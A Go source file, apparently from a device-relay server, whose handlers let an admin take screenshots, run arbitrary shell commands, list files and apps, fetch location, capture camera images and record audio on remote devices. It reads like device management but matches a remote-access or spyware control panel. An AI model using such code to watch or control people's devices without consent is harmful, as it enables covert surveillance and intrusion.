package relay

import (
	"context"
	"fmt"
	"strings"

	"device-relay-backend/internal/device"
	"device-relay-backend/internal/model"
	"device-relay-backend/internal/parse"
)

// ScreenUpdate answers device:screenshot.
type ScreenUpdate struct {
	DeviceID   string `json:"deviceId"`
	Screenshot string `json:"screenshot"`
}

// CommandReply answers device:command.
type CommandReply struct {
	DeviceID  string               `json:"deviceId"`
	CommandID string               `json:"commandId"`
	Result    device.CommandResult `json:"result"`
}

// FileListReply answers device:files.
type FileListReply struct {
	DeviceID string             `json:"deviceId"`
	Path     string             `json:"path"`
	Files    []device.FileEntry `json:"files"`
}

// LocationReply answers device:location.
type LocationReply struct {
	DeviceID string          `json:"deviceId"`
	Location device.Location `json:"location"`
}

// CameraReply answers device:camera.
type CameraReply struct {
	DeviceID string              `json:"deviceId"`
	Camera   device.CameraFacing `json:"camera"`
	ImageURL string              `json:"imageUrl"`
}

// AudioReply answers device:audio.
type AudioReply struct {
	DeviceID  string           `json:"deviceId"`
	AudioData device.AudioClip `json:"audioData"`
}

// AppListReply answers device:apps.
type AppListReply struct {
	DeviceID string            `json:"deviceId"`
	Apps     []device.AppEntry `json:"apps"`
}

// NotificationReply answers device:notify.
type NotificationReply struct {
	DeviceID string `json:"deviceId"`
	Message  string `json:"message"`
	Success  bool   `json:"success"`
}

func (r *Relay) doScreenshot(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	shot, err := r.source.Screenshot(ctx, req.DeviceID)
	if err != nil {
		return nil, err
	}
	return ScreenUpdate{DeviceID: req.DeviceID, Screenshot: shot}, nil
}

// doCommand persists a pending command record, runs it and records the
// outcome. The reply echoes the caller's command id when one was given.
func (r *Relay) doCommand(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	if strings.TrimSpace(req.Command) == "" {
		return nil, device.ErrInvalidArgument
	}

	// Nothing runs unless the pending record is written.
	rec := &model.Command{DeviceID: req.DeviceID, Command: req.Command, CreatedAt: r.now()}
	if err := r.store.CreateCommand(ctx, rec); err != nil {
		r.countStoreError("command")
		return nil, fmt.Errorf("%w: create command: %v", errStoreWrite, err)
	}

	res, err := r.source.Execute(ctx, req.DeviceID, req.Command)
	if err != nil {
		_ = r.finishCommand(ctx, rec.ID, model.CommandError, "", "execution failed")
		return nil, err
	}

	if res.ExitCode == 0 {
		err = r.finishCommand(ctx, rec.ID, model.CommandSuccess, res.Output, "")
	} else {
		err = r.finishCommand(ctx, rec.ID, model.CommandError, res.Output, "non-zero exit code")
	}
	if err != nil {
		return nil, fmt.Errorf("%w: record command result: %v", errStoreWrite, err)
	}

	commandID := req.CommandID
	if commandID == "" {
		commandID = rec.ID
	}
	return CommandReply{DeviceID: req.DeviceID, CommandID: commandID, Result: res}, nil
}

func (r *Relay) finishCommand(ctx context.Context, id string, status model.CommandStatus, output, errMsg string) error {
	if err := r.store.UpdateCommandResult(ctx, id, status, output, errMsg, r.now()); err != nil {
		r.countStoreError("command")
		r.log.Error().Err(err).Str("command_id", id).Msg("failed to record command result")
		return err
	}
	return nil
}

func (r *Relay) doFiles(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	path, err := parse.Path(req.Path)
	if err != nil {
		return nil, device.ErrInvalidArgument
	}
	files, err := r.source.ListFiles(ctx, req.DeviceID, path)
	if err != nil {
		return nil, err
	}
	return FileListReply{DeviceID: req.DeviceID, Path: path, Files: files}, nil
}

func (r *Relay) doLocation(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	loc, err := r.source.CurrentLocation(ctx, req.DeviceID)
	if err != nil {
		return nil, err
	}
	return LocationReply{DeviceID: req.DeviceID, Location: loc}, nil
}

func (r *Relay) doCamera(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	facing := device.CameraFacing(strings.ToLower(strings.TrimSpace(req.Camera)))
	if facing == "" {
		facing = device.CameraBack
	}
	img, err := r.source.CaptureCamera(ctx, req.DeviceID, facing)
	if err != nil {
		return nil, err
	}
	return CameraReply{DeviceID: req.DeviceID, Camera: facing, ImageURL: img}, nil
}

func (r *Relay) doAudio(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	clip, err := r.source.RecordAudio(ctx, req.DeviceID, req.Duration)
	if err != nil {
		return nil, err
	}
	return AudioReply{DeviceID: req.DeviceID, AudioData: clip}, nil
}

func (r *Relay) doApps(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	apps, err := r.source.ListApps(ctx, req.DeviceID)
	if err != nil {
		return nil, err
	}
	return AppListReply{DeviceID: req.DeviceID, Apps: apps}, nil
}

func (r *Relay) doNotify(ctx context.Context, _ *Connection, _ string, req deviceRequest) (any, error) {
	res, err := r.source.SendNotification(ctx, req.DeviceID, req.Message)
	if err != nil {
		return nil, err
	}
	return NotificationReply{DeviceID: req.DeviceID, Message: res.Message, Success: res.Delivered}, nil
}

// BroadcastStatus pushes a fresh descriptor to the owning admin's room.
func (r *Relay) BroadcastStatus(adminID string, d device.Descriptor) int {
	return r.BroadcastToAdmin(adminID, Message{Event: EventDeviceStatus, Data: d})
}
